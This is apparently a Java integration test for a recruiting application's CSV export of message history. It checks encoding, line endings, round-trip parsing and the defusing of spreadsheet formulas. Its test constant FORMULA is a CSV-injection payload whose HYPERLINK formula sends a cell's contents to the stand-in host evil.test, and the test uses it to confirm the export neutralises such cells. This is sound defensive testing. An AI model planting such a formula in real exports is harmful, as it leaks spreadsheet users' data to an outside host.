package app.candor.message;

import app.candor.application.Application;
import app.candor.application.Stage;
import app.candor.requisition.Requisition;
import app.candor.support.Api;
import app.candor.support.InjectMailServer;
import app.candor.support.MailProfile;
import app.candor.support.MailServer;
import app.candor.support.Mails;
import app.candor.support.TestData;
import app.candor.user.User;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;

import static app.candor.support.Api.json;
import static org.assertj.core.api.Assertions.assertThat;

/** The communication history as CSV: safe to open in a spreadsheet, and it reads back to the same rows. */
@QuarkusTest
@TestProfile(MailProfile.class)
class HistoryExportCsvTest {

    static final String FORMULA = "=HYPERLINK(\"http://evil.test/?q=\"&A1,\"Click me\")";
    static final String MULTI_LINE = "+1 for your portfolio;\nsecond line, with a comma and \"quotes\"";

    @Inject
    TestData data;

    @InjectMailServer
    MailServer smtp;

    @Test
    void theExportDefusesFormulasStartsWithABomUsesCrLfAndParsesBackToTheSameRows() throws IOException {
        smtp.start();
        User recruiter = data.recruiter();
        Requisition requisition = data.requisition(recruiter, data.hiringManager(), "-Engineer, \"Platform\" " + TestData.unique(""));
        Application rejected = data.applicationAt(requisition, recruiter, Stage.INTERVIEW);
        Application offered = data.applicationAt(requisition, recruiter, Stage.FINAL_INTERVIEW);
        long rejection = json(recruiter).body(Map.of("outcome", "REJECTED", "reasonId", 4, "personalNote", FORMULA))
                .when().post("/api/applications/" + rejected.id + "/outcome").then().statusCode(201).extract().jsonPath().getLong("id");
        long offer = json(recruiter).body(Map.of("outcome", "OFFER", "personalNote", MULTI_LINE))
                .when().post("/api/applications/" + offered.id + "/outcome").then().statusCode(201).extract().jsonPath().getLong("id");
        Mails.awaitState(rejection, MessageState.SENT);
        Mails.awaitState(offer, MessageState.SENT);

        Response response = json(recruiter).accept("text/csv").queryParam("requisitionId", requisition.id)
                .when().get("/api/messages/export");
        assertThat(response.statusCode()).as(response::asString).isEqualTo(200);
        assertThat(response.contentType()).startsWith("text/csv");
        byte[] bytes = response.asByteArray();
        assertThat(Arrays.copyOf(bytes, 3))
                .as("UTF-8 byte-order mark").containsExactly(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF});
        String csv = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        assertRecordsEndWithCrLf(csv);

        List<CSVRecord> records;
        try (CSVParser parser = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv))) {
            assertThat(parser.getHeaderNames()).isEqualTo(Arrays.asList(HistoryExport.HEADER));
            records = parser.getRecords();
        }
        List<Message> stored = Api.db(() -> {
            List<Message> list = Message.<Message>list("requisition.id = ?1 order by createdAt, id", requisition.id);
            list.forEach(m -> m.candidate.firstName.length());
            return list;
        });
        assertThat(records).hasSize(2);
        for (int i = 0; i < stored.size(); i++) {
            Message m = stored.get(i);
            CSVRecord row = records.get(i);
            assertThat(row.get("message_id")).isEqualTo(String.valueOf(m.id));
            assertThat(row.get("requisition_id")).isEqualTo(String.valueOf(requisition.id));
            assertThat(row.get("requisition")).as("a leading minus is defused too").isEqualTo("'" + requisition.title);
            assertThat(row.get("recruiter")).isEqualTo(recruiter.username);
            assertThat(row.get("candidate")).isEqualTo(m.candidate.firstName + " " + m.candidate.lastName);
            assertThat(row.get("recipient")).isEqualTo(m.recipient);
            assertThat(row.get("kind")).isEqualTo(m.kind.name());
            assertThat(row.get("channel")).isEqualTo("EMAIL");
            assertThat(row.get("state")).isEqualTo("SENT");
            assertThat(row.get("subject")).isEqualTo(m.subject.startsWith("-") ? "'" + m.subject : m.subject);
            assertThat(row.get("attempts")).isEqualTo("1");
            assertThat(row.get("last_error")).isEqualTo("");
            assertThat(row.get("sent_at")).as("sent_at").isNotEmpty();
        }
        CSVRecord rejectionRow = records.stream().filter(r -> r.get("message_id").equals(String.valueOf(rejection))).findFirst().orElseThrow();
        assertThat(rejectionRow.get("personal_note")).as("the formula is shown as text").isEqualTo("'" + FORMULA);
        assertThat(rejectionRow.get("rejection_reason")).isEqualTo("Salary expectations could not be met");
        CSVRecord offerRow = records.stream().filter(r -> r.get("message_id").equals(String.valueOf(offer))).findFirst().orElseThrow();
        assertThat(offerRow.get("personal_note"))
                .as("quotes, commas and a line break survive the round trip").isEqualTo("'" + MULTI_LINE);
        assertThat(offerRow.get("rejection_reason")).isEqualTo("");
        for (CSVRecord row : records) {
            for (String cell : row.values()) {
                assertThat(cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0)
                        .as(() -> "a live formula cell: " + cell).isTrue();
            }
        }
    }

    /** Every record (the header too) ends with CRLF; a bare LF may only appear inside a quoted cell. */
    private static void assertRecordsEndWithCrLf(String csv) {
        assertThat(csv).as("the last record ends with CRLF").endsWith("\r\n");
        boolean quoted = false;
        List<Integer> bareBreaks = new ArrayList<>();
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (c == '"') {
                quoted = !quoted;
            } else if (!quoted && c == '\n' && (i == 0 || csv.charAt(i - 1) != '\r')) {
                bareBreaks.add(i);
            } else if (!quoted && c == '\r' && (i + 1 == csv.length() || csv.charAt(i + 1) != '\n')) {
                bareBreaks.add(i);
            }
        }
        assertThat(bareBreaks).as("line breaks outside quotes that are not CRLF").isEmpty();
    }
}
